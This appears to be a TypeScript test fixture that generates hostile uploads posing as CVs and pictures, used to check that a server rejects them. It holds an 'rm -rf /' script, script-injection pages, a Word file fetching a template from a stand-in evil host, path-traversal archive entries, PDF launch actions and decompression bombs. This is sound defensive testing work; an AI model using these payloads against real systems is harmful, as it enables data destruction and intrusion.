import { randomBytes } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { pdf } from './given-files.ts';
import { contentTypes, doc, docx, docxParts, goodPictures } from './good-files.ts';
import { makeZip } from './make-zip.ts';

const megabyte = 1024 * 1024;
const html = '<!doctype html><html><script>alert(1)</script></html>';
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const withPart = (name: string, data: Buffer | string = 'x') => makeZip([...docxParts(), { name, data }]);
const changed = (bytes: Buffer, at: number, value: number) => {
  const copy = Buffer.from(bytes);
  copy.writeUInt32LE(value, at);
  return copy;
};

/** Files that pretend to be a CV. None of them may be accepted, none may trouble the server. */
export function hostileCvs(): Record<string, Buffer> {
  const zeros = Buffer.alloc(20 * megabyte);
  return {
    'nothing at all': Buffer.alloc(0),
    'one byte': Buffer.from('%'),
    'plain text': Buffer.from('I am a CV, honestly.'),
    'a web page': Buffer.from(html),
    'a Windows program': Buffer.concat([Buffer.from('MZ\x90\x00'), randomBytes(4096)]),
    'a Linux program': Buffer.concat([Buffer.from('\x7fELF'), randomBytes(4096)]),
    'a script': Buffer.from('#!/bin/sh\nrm -rf /\n'),
    'rich text': Buffer.from('{\\rtf1\\ansi hello}'),
    'random bytes': randomBytes(50_000),
    'a PDF that is cut off': pdf().subarray(0, 300),
    'only the head of a PDF': Buffer.from('%PDF-1.7\n'),
    'a PDF without a version': Buffer.from('%PDF-evil\n1 0 obj\nendobj\n%%EOF'),
    'a PDF behind a web page': Buffer.concat([Buffer.from(html), pdf()]),
    'a web page inside the head of a PDF': Buffer.concat([Buffer.from(`%PDF-1.4\n%${html}\n`), pdf()]),
    'a web page behind a PDF': Buffer.concat([pdf(), Buffer.from(html)]),
    'a PDF with an archive behind it': Buffer.concat([pdf(), docx()]),
    'a PDF with a script in it': Buffer.from(
      pdf().toString('latin1').replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /JavaScript >>'),
      'latin1',
    ),
    'a PDF that starts a program': Buffer.concat([Buffer.from('%PDF-1.4\n/S /Launch\n'), pdf()]),
    'an empty zip': makeZip([]),
    'a zip of something else': makeZip([{ name: 'hello.txt', data: 'hello' }]),
    'a spreadsheet': makeZip(
      docxParts('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
    ),
    'a Word file that is cut off': docx().subarray(0, docx().length - 40),
    'a Word file with macros': makeZip([...docxParts(macroType), { name: 'word/vbaProject.bin', data: 'x' }]),
    'a Word file with hidden macros': withPart('word/vbaProject.bin'),
    'a Word file that says it has macros': makeZip(docxParts(macroType)),
    'a Word file that fetches a template': withPart(
      'word/_rels/settings.xml.rels',
      '<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
    ),
    'a Word file with a program in it': withPart('word/embeddings/setup.exe'),
    'a Word file with a zip in it': withPart('word/media/more.zip', docx()),
    'a Word file that climbs out': withPart('../../etc/cron.d/evil'),
    'a Word file with an absolute name': withPart('/etc/passwd'),
    'a Word file with a Windows path': withPart('..\\..\\evil.xml'),
    'a Word file with the same part twice': withPart('word/document.xml', '<w:document/>'),
    'a bomb': withPart('word/media/bomb.xml', zeros),
    'a bomb of many parts': makeZip([
      ...docxParts(),
      ...Array.from({ length: 120 }, (_, n) => ({
        name: `word/${n}.xml`,
        data: zeros.subarray(0, megabyte),
      })),
    ]),
    'a bomb that lies about its size': makeZip([
      ...docxParts(),
      { name: 'word/media/bomb.xml', data: zeros, declaredSize: 1_000 },
    ]),
    'too many parts': makeZip([
      ...docxParts(),
      ...Array.from({ length: 3_000 }, (_, n) => ({ name: `word/${n}.xml`, data: '' })),
    ]),
    'an endless list of types': makeZip([
      { name: '[Content_Types].xml', data: contentTypes().repeat(20_000) },
    ]),
    'an encrypted Word file': makeZip(docxParts().map((part) => ({ ...part, encrypted: true }))),
    'a Word file behind a web page': Buffer.concat([Buffer.from(html), docx()]),
    'a Word file with a page as its comment': makeZip(docxParts(), html),
    'a Word file that opens as a PDF': makeZip([
      { name: `%PDF-1.4 ${'x'.repeat(20)}`, data: '' },
      ...docxParts(),
    ]),
    'only the head of an old Word file': Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    'an old Office file of another kind': doc({ Workbook: 'x'.repeat(5_000) }),
    'an old Word file with macros': doc({ WordDocument: 'x'.repeat(5_000), '/Macros/VBA/dir': 'x' }),
    'an old Word file that is cut off': doc().subarray(0, 3_000),
    'an old Word file whose directory is elsewhere': changed(doc(), 48, 0x00ffffff),
    'an old Word file whose table points nowhere': changed(doc(), 76, 0x7fffffff),
    'an old Word file of no version': changed(doc(), 26, 0x00990099),
    'an old Word file whose directory has no end': loopedDoc(),
    'a PDF of more than 5 MB': Buffer.concat([pdf(), Buffer.alloc(6 * megabyte, 32), Buffer.from('%%EOF')]),
  };
}

/** The directory's chain leads back to itself. */
function loopedDoc(): Buffer {
  const file = doc();
  const table = (file.readUInt32LE(76) + 1) * 512;
  const directory = file.readUInt32LE(48);
  return changed(file, table + directory * 4, directory);
}

export async function hostilePictures(): Promise<Record<string, Buffer>> {
  const { jpeg, png } = (await goodPictures()) as { jpeg: Buffer; png: Buffer };
  const tiff = await sharp(png).tiff().toBuffer();
  return {
    'nothing at all': Buffer.alloc(0),
    'one byte': Buffer.from([0xff]),
    'a drawing with a script': Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    'a web page': Buffer.from(html),
    'a PDF': pdf(),
    'only the head of a JPEG': jpeg.subarray(0, 20),
    'a JPEG that is cut off': jpeg.subarray(0, jpeg.length / 2),
    'a JPEG full of noise': Buffer.concat([jpeg.subarray(0, 200), randomBytes(5_000)]),
    'a PNG that is cut off': png.subarray(0, png.length / 2),
    'a web page with the head of a GIF': Buffer.from(`GIF89a/*${html}*/`),
    'a picture of a kind that browsers do not show': tiff,
    'a PNG of ten billion pixels': hugePng(100_000),
    'a PNG of a hundred million pixels': hugePng(10_000),
    'a picture of more than 2 MB': Buffer.concat([jpeg, Buffer.alloc(3 * megabyte)]),
  };
}

/** Small on the wire, gigabytes when decoded. */
function hugePng(side: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type), data]);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.writeUInt8(1, 8);
  const rows = deflateSync(Buffer.alloc(((side / 8) | 0) * 200));
  const mark = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([mark, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}
